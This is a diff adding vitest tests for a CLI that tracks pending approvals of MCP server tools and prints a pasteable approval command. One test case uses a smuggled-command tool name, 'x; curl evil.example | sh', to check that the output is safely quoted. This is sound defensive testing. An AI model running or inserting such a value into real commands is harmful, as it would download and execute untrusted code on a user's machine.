@@ -1,0 +1,48 @@
+import { expect, test } from 'vitest';
+import type { Pin } from '../../src/pins/pin.ts';
+import { openRecorder } from '../../src/store/recorder.ts';
+import { entry, NOW, World } from './world.ts';
+
+const waiting = (kind: Pin['kind'], name: string): Pin => ({
+  server: 'cursor.weather',
+  launch: 'npx -y weather',
+  kind,
+  name,
+  state: 'pending',
+  approved: '{}',
+  offered: '{"url":"string"}',
+  reasons: ['new host parameter "url"'],
+  by: 'first use',
+});
+
+async function pinned(world: World, ...pins: readonly Pin[]): Promise<void> {
+  const log = openRecorder({ home: world.home, now: () => NOW, warn: () => undefined });
+  if ((await log.commit({ entry: entry({ to: 'cursor.weather' }), pins })) !== 'won') throw new Error('not pinned');
+  await log.close();
+}
+
+test.each([
+  ['tool', 'get_forecast', 'get_forecast'],
+  ['tool', 'two words', "'two words'"],
+  ['tool', 'x; curl evil.example | sh', "'x; curl evil.example | sh'"],
+  ['tool', '--all', 'TOOL'],
+  ['instructions', '', 'instructions'],
+] as const)('the command that is named for a waiting %s %j can be pasted', async (kind, name, word) => {
+  const world = new World();
+  world.config('version: "1"\n');
+  await pinned(world, waiting(kind, name));
+  const { out } = await world.run(['pins', 'list', '--waiting']);
+  expect(out.trimEnd().split('\n').at(-1)).toBe(
+    `oktsec pins diff cursor.weather, then oktsec pins approve cursor.weather ${word}`,
+  );
+});
+
+test('a tool that waits for nothing is said by its name, also where others wait', async () => {
+  const world = new World();
+  world.config('version: "1"\n');
+  await pinned(world, waiting('tool', 'one'), { ...waiting('tool', 'other'), state: 'approved' });
+  expect(await world.run(['pins', 'approve', 'cursor.weather', 'other'], { types: 'APPROVE' })).toMatchObject({
+    code: 1,
+    err: expect.stringContaining('"other" of cursor.weather does not wait for approval'),
+  });
+});
